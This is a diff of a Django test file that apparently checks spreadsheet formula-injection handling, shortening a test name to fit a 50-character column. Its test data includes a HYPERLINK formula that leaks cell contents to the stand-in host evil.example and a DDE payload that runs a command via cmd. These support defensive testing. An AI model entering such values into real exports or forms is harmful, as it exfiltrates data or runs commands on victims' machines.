@@ -17,7 +17,8 @@ from .conftest import complete
 
 pytestmark = pytest.mark.django_db
 
-EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+# At most 50 characters: the given-name column's length (PostgreSQL enforces it).
+EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
 DANGEROUS = [EVIL_NAME, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
 
 
